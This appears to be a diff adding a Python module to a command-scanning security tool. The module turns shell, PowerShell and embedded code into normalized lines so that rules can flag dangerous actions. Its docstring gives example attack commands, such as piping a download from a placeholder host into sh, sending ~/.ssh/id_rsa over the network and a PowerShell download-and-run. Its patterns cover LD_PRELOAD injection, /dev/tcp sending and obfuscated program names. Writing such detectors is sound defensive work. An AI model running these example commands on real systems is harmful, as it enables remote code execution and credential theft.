@@ -1,0 +1,362 @@
+"""Commands, scripts and programs as plain lines, one for each thing that they would do.
+
+The reading `acts` (detect.scanning.readings) runs the rules about commands over them::
+
+    $ curl -s https://x.example/a | $ sh      a pipeline, without quotes, wrappers and tricks
+    < ~/.ssh/id_rsa                           a file that a command reads
+    > /etc/cron.d/x                           a file that one writes
+    ^ ~/.ssh/id_rsa                           a file, or ENV, that is sent over a network
+    RUN a.sh                                  a program that was fetched before
+    CODE import os                            a program in another language
+    PS iex irm https://x.example/a            a command of PowerShell or cmd
+    SQL drop table x                          a statement of a database
+
+A word in quotes for a program that only prints or stores it is no command: a commit's message, or a
+search for one. Knows what programs do with their arguments; which of it is harmful, rules say.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Sequence
+
+from pipeguard.detect.commands.file_access import FileAccess
+from pipeguard.detect.commands.nested_commands import Nested, NestedKind, nested_in
+from pipeguard.detect.commands.pipeline_lines import pipeline_lines, text_lines
+from pipeguard.detect.commands.posix_shell import Shell
+from pipeguard.detect.commands.powershell import is_windows, windows_lines
+from pipeguard.detect.commands.programs import (
+    INTERPRETERS,
+    SENDERS,
+    UPLOADS,
+    flat,
+    is_inner,
+    is_ordinary,
+    matched,
+    name_of,
+    script_of,
+    tidy,
+    unwrapped,
+)
+from pipeguard.detect.commands.script_budget import ScriptBudget
+from pipeguard.detect.commands.shell_command import GAP, Pipeline, ShellCommand
+from pipeguard.detect.commands.shell_output import output
+from pipeguard.detect.commands.sql import statements
+from pipeguard.detect.commands.word_expansion import MAX_WORDS
+from pipeguard.detect.words.programs import CLIENTS, DECODERS, OPERANDS_LAST, SHELLS, TEARABLE
+from pipeguard.firewall.lazy_regex import lazy_regex
+
+MAX_TEXT = 2**20  # characters of one argument that are read
+MAX_LINES = 40_000
+MAX_DEPTH = 8  # of pipelines inside each other
+MAX_NESTING_DEPTH = 6  # of pipelines whose arguments are read as commands again
+MAX_PIPED_ARGUMENTS = 4000  # characters of a known input that `xargs` makes arguments of
+MAX_MANIFEST = 1000  # characters of an input that are shown with a command
+
+_NAME_IN_SUBSTITUTION = lazy_regex(
+    rf"\$\((?:(?:which|whereis|realpath|type{GAP}-[pP]|command{GAP}-v){GAP}(?:-\w{GAP})?)?"
+    r"([\w./+-]{1,60})\)"
+)
+_PRELOADS = lazy_regex(r"\bLD_(?:PRELOAD|AUDIT)=[^\s;&|]|\bDYLD_INSERT_LIBRARIES=[^\s;&|]")
+_RECURSIVE = lazy_regex(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive")
+_CLOUDS = ("aws", "gcloud", "az", "git", "gh", "docker", "kubectl")  # that send with some verbs
+_TAKE_MANIFEST = ("kubectl", "oc", "docker", "podman", "aws", "gcloud", "az")  # as their input
+
+
+MAX_NAMES = 5  # of one text
+
+_TORN = lazy_regex(
+    r"(?:^|[;|&(`\n]|\$\()\s{0,8}(?:sudo\s{1,4})?((?:[A-Za-z0-9_./-]{0,20}(?:''|\"\"|\\[A-Za-z]|'[A-Za-z]{1,6}'"
+    r"|\"[A-Za-z]{1,6}\"|\$[@*]|\$\{[A-Za-z@*]{1,8}\}|\$\{[@*]\})){1,20}[A-Za-z0-9_.-]{0,20})(?=[\s;|&)<>`]|\Z)"
+)
+_TEARS = lazy_regex(r"''|\"\"|['\"\\]|\$\{?[@*]\}?|\$\{[A-Za-z]{1,8}\}")
+
+
+# A function that opens a file, the home folder before it, the path, and a mode that writes.
+_OPENS_FILE = lazy_regex(
+    r"\b(open|path|read_?text|read_?bytes|readfile(?:sync)?|writefile(?:sync)?|appendfile(?:sync)?|"
+    r"createreadstream|file_get_contents|file_put_contents|fopen|readlines|file\.read|io\.open|"
+    r"copy(?:file|2)?|expanduser|slurp|readalltext|filereader|load)\s{0,2}\(\s{0,2}"
+    r"((?:process\.env\.HOME|os\.homedir\(\)|os\.environ\[['\"]HOME['\"]\]|home)\s{0,2}[+,]\s{0,2})?"
+    r"[rbfu]{0,2}['\"`]([~/.][^'\"`\n]{1,200})['\"`](\s{0,2},\s{0,2}['\"][wa])?",
+    re.IGNORECASE,
+)
+_WRITERS = ("writeFileSync", "writeFile", "appendFileSync", "appendFile", "file_put_contents")
+_STRING = lazy_regex(r"'((?:[^'\\]|\\.){0,4000})'|\"((?:[^\"\\]|\\.){0,4000})\"")
+# A function that runs a script or a list of words; a script in backticks; one of AppleScript.
+_CALLS_SHELL = lazy_regex(
+    r"(?:\b(?:system|popen[234]?|exec(?:sync|file(?:sync)?|[lv]p?e?)?|spawn(?:sync)?|run|call|"
+    r"check_(?:call|output)|popen|shell_exec|passthru|proc_open|getoutput|getstatusoutput|"
+    r"create_subprocess_shell|command|start|invoke|sh|bash)\s{0,4}\(\s{0,4}[rbfu]{0,2}"
+    r"(?:(['\"]{1,3})((?:[^'\"\\\n]|\\.|(?!\1)['\"]){1,4000}?)\1|\[([^\]\n]{1,4000})\])"
+    r"|(?<![\w`])`([^`\n]{2,2000})`|\bdo shell script\s{1,4}\"((?:[^\"\\]|\\.){1,4000})\")",
+    re.IGNORECASE,
+)
+
+
+def shell_calls(text: str) -> Iterator[str | list[str]]:
+    """Each script, or list of words, that a program has run."""
+    for match in _CALLS_SHELL.finditer(text):
+        script = match[2] or match[4] or match[5]
+        if match[3] is not None:
+            yield [single or double for single, double in _STRING.findall(match[3])]
+        elif script:
+            yield script.replace("\\'", "'").replace('\\"', '"')
+
+
+def opened_file_lines(text: str) -> Iterator[str]:
+    """A line `< path` or `> path` for each file that a program opens by its name."""
+    for match in _OPENS_FILE.finditer(text):
+        function, home, name, mode = match.groups()
+        is_writing = function in _WRITERS or bool(mode)
+        yield f"{'>' if is_writing else '<'} {tidy(('~' if home else '') + name)}"
+
+
+def torn_name_lines(text: str) -> list[str]:
+    """A line `ODD torn NAME` for each name of a program that is written in pieces."""
+    if not any(sign in text for sign in "'\"\\$"):
+        return []
+    lines: list[str] = []
+    for match in _TORN.finditer(text):
+        word = match[1]
+        whole = _TEARS.sub("", word)
+        name = name_of(whole)
+        is_quoted = word[:1] in "'\"" and word[1:-1] == whole
+        if not is_quoted and (name in TEARABLE or INTERPRETERS.match(name)):
+            lines.append(f"ODD torn {name}")
+    return lines[:MAX_NAMES]
+
+
+def command_lines(
+    text: str, *, windows: bool = True, budget: ScriptBudget | None = None
+) -> list[str]:
+    """The lines of a command line or a script.
+
+    Args:
+        text: the script.
+        windows: False where it contains nothing for PowerShell or cmd.
+        budget: the message's; None where the script is all of it.
+    """
+    interpreter = _Interpreter(text, budget)
+    interpreter.run_script(text[:MAX_TEXT])
+    interpreter.lines += torn_name_lines(text[:MAX_TEXT])
+    if "LD_" in text and _PRELOADS.search(text):
+        interpreter.lines.append("ENV LD_PRELOAD=")
+    if windows and is_windows(text):
+        interpreter.lines += windows_lines(text[:MAX_TEXT])
+    return interpreter.all_lines()
+
+
+def argument_lines(words: Sequence[str], *, budget: ScriptBudget | None = None) -> list[str]:
+    """The lines of a command that is given as a list of words."""
+    text = " ".join(words)
+    interpreter = _Interpreter(text, budget)
+    interpreter.run_words(words)
+    text = text[:MAX_TEXT]
+    if is_windows(text):
+        interpreter.lines += windows_lines(text)
+    return interpreter.all_lines()
+
+
+def code_lines(text: str, *, budget: ScriptBudget | None = None) -> list[str]:
+    """The lines of a program in another language than a shell's."""
+    interpreter = _Interpreter(text, budget)
+    interpreter.run_code(text[:MAX_TEXT])
+    return interpreter.all_lines()
+
+
+class _Interpreter:
+    """Collects the lines of one argument.
+
+    Attributes:
+        lines: the lines so far.
+    """
+
+    def __init__(self, text: str, budget: ScriptBudget | None) -> None:
+        self.lines: list[str] = []
+        self._budget = budget or ScriptBudget(len(text))
+        self._budget.is_exceeded = self._budget.is_exceeded or len(text) > MAX_TEXT
+        self._shell = Shell(self._run_substitution, self._budget)
+        self._files = FileAccess(self.lines)
+        self._read_by_substitutions: list[str] = []
+        self._is_decoding = False  # a substitution decodes its text
+        self._is_sending = False  # the current pipeline does
+        self._depth = 0
+
+    def all_lines(self) -> list[str]:
+        """The lines, as many as are read."""
+        self._budget.is_exceeded = self._budget.is_exceeded or len(self.lines) > MAX_LINES
+        return self.lines[:MAX_LINES]
+
+    # -- scripts and pipelines -------------------------------------------------------------------
+
+    def run_script(self, text: str) -> None:
+        """Add the lines of a script."""
+        self._run_pipelines(self._shell.pipelines(text))
+
+    def run_words(self, words: Sequence[str]) -> None:
+        """Add the lines of a command."""
+        self._run_pipelines([[ShellCommand(list(words), [], None)]])
+
+    def run_code(self, text: str) -> None:
+        """Add the lines of a program in another language."""
+        for call in shell_calls(text):
+            if isinstance(call, str):
+                self.run_script(call)
+            else:
+                self.run_words(call)
+        self.lines += opened_file_lines(text)
+        if not self._budget.is_exceeded:
+            self.lines += text_lines("CODE", " ".join(text.split()))
+
+    def _run_substitution(self, pipelines: list[Pipeline]) -> None:
+        first = len(self._files.read)
+        self._run_pipelines(pipelines)
+        self._read_by_substitutions += self._files.read[first:]
+        last = pipelines[-1][-1].words if pipelines else []
+        self._is_decoding = self._is_decoding or bool(last and name_of(last[0]) in DECODERS)
+
+    def _run_pipelines(self, pipelines: list[Pipeline]) -> None:
+        if self._depth > MAX_DEPTH or len(self.lines) > MAX_LINES:
+            self._budget.is_exceeded = True
+            return
+        self._depth += 1
+        for pipeline in pipelines:
+            self._run_pipeline(pipeline)
+        self._depth -= 1
+
+    def _run_pipeline(self, pipeline: Pipeline) -> None:
+        first_read, first_line = len(self._files.read), len(self.lines)
+        was_sending, self._is_sending = self._is_sending, False
+        shown: list[str] = []
+        for at, command in enumerate(pipeline):
+            stdin = command.stdin
+            if stdin is None and at:
+                stdin = output(pipeline[max(0, at - MAX_WORDS) : at])
+            if line := self._command_line(self._prepared(command, stdin)):
+                shown.append(line)
+        if shown:
+            self.lines[first_line:first_line] = pipeline_lines(shown)
+        if self._is_sending:
+            is_substituting = any("$(" in line for line in shown)
+            sent = self._files.read[first_read:]
+            sent += self._read_by_substitutions if is_substituting else []
+            self.lines += [f"^ {path}" for path in dict.fromkeys(sent)]
+        self._is_sending = was_sending or self._is_sending
+
+    def _prepared(self, command: ShellCommand, stdin: str | None) -> ShellCommand:
+        """A command without what only runs it; its input, where it is known, is run as well."""
+        words, takes_arguments = unwrapped(_with_plain_name(command.words))
+        if words:
+            words = self._without_globs(_with_plain_name(words))
+            if takes_arguments and stdin is not None and len(stdin) < MAX_PIPED_ARGUMENTS:
+                words = words + stdin.split()
+            if stdin is not None:
+                self._run_input(words, stdin)
+        return ShellCommand(words, command.redirects, stdin)
+
+    def _without_globs(self, words: list[str]) -> list[str]:
+        """Words with the files that patterns such as `/b?n/sh` are written for."""
+        if not any("*" in word or "?" in word or "[" in word for word in words):
+            return words
+        plain = [matched(word) for word in words]
+        pairs = zip(words, plain, strict=True)
+        self.lines += [f"ODD glob {file}" for pattern, file in pairs if file != pattern]
+        return plain
+
+    def _run_input(self, words: list[str], stdin: str) -> None:
+        name = name_of(words[0])
+        if name in SHELLS and not script_of(words):
+            self.run_script(stdin)
+        elif INTERPRETERS.match(name):
+            self.run_code(stdin)
+        elif name in CLIENTS:
+            self.lines += statements(stdin)
+
+    # -- one command -----------------------------------------------------------------------------
+
+    def _command_line(self, command: ShellCommand) -> str:
+        """The line of a command, after the lines for what it does are added; empty for nothing."""
+        words = command.words
+        targets = self._files.redirect(command) if command.redirects else ""
+        if not words:
+            return f"${targets}" if targets else ""
+        name = name_of(words[0])
+        is_plain = not (command.redirects or command.stdin or "/" in words[0])
+        if is_plain and is_ordinary(words[0]) and not any(map(is_inner, words)):
+            return _shown(name, words[1:])
+        if self._depth <= MAX_NESTING_DEPTH:
+            for nested in nested_in(name, words, self._budget):
+                self._run_nested(nested)
+        self._files.follow(name, words)
+        self._follow_decoded(name, words)
+        self._files.run(name, words)
+        self._is_sending = self._is_sending or _sends(name, command)
+        if command.stdin and name in _TAKE_MANIFEST:
+            words = [*words, GAP.join(command.stdin.split())[:MAX_MANIFEST]]
+        if name == "rm":
+            return self._removal_line(words) + targets
+        if name == "cd" and len(words) > 1:
+            self._files.folder = self._files.resolved(words[-1])
+        return _shown(name, self._arguments(name, words)) + targets
+
+    def _run_nested(self, nested: Nested) -> None:
+        match nested.kind:
+            case NestedKind.SCRIPT:
+                self.run_script(nested.text)
+            case NestedKind.CODE:
+                self.run_code(nested.text)
+            case NestedKind.COMMAND:
+                self.run_words(nested.words)
+            case NestedKind.REMOVAL:
+                self.lines.append(f"$ rm -r {flat(self._files.resolved(nested.text))}")
+            case NestedKind.SQL:
+                self.lines.append(nested.text)
+
+    def _follow_decoded(self, name: str, words: list[str]) -> None:
+        is_inline = name == "eval" or (name in SHELLS and bool(script_of(words)))
+        if is_inline and self._is_decoding:
+            self.lines.append("RUN decoded")
+
+    def _removal_line(self, words: list[str]) -> str:
+        """The line of `rm`, after a line for each thing that it removes is added."""
+        options = [word for word in words[1:] if word.startswith("-") and word != "-"]
+        name = "rm -r" if any(map(_RECURSIVE.fullmatch, options)) else "rm"
+        files = [word for word in words[1:] if not word.startswith("-") and word]
+        paths = [flat(self._files.resolved(file)) for file in files]
+        self.lines += [f"$ {name} {path}" for path in paths]
+        return " ".join([f"$ {name} of", *paths])
+
+    def _arguments(self, name: str, words: list[str]) -> list[str]:
+        """The arguments; of what changes files, the options first and the paths resolved."""
+        arguments = [word for word in words[1:] if word]
+        if name not in OPERANDS_LAST:
+            return arguments
+        arguments.sort(key=lambda word: not word.startswith("-"))
+        return [
+            word if at == 0 or word.startswith("-") else self._files.resolved(word)
+            for at, word in enumerate(arguments)
+        ]
+
+
+def _with_plain_name(words: list[str]) -> list[str]:
+    """Words whose first, the command's name, is not partly the output of naming a program.
+
+    A model writes the name as Markdown does, and takes `curl`, c`u`rl and `which curl` for curl.
+    """
+    if not words or "$(" not in words[0]:
+        return words
+    return [_NAME_IN_SUBSTITUTION.sub(r"\1", words[0]), *words[1:]]
+
+
+def _shown(name: str, arguments: Sequence[str]) -> str:
+    return " ".join([f"$ {name}", *(flat(word) for word in arguments if word)])
+
+
+def _sends(name: str, command: ShellCommand) -> bool:
+    """True for a command that sends to another machine."""
+    return (
+        SENDERS.match(name) is not None
+        or any("/dev/tcp/" in target for _, target in command.redirects)
+        or (name in _CLOUDS and UPLOADS.search(" ".join(command.words[1:6])) is not None)
+    )
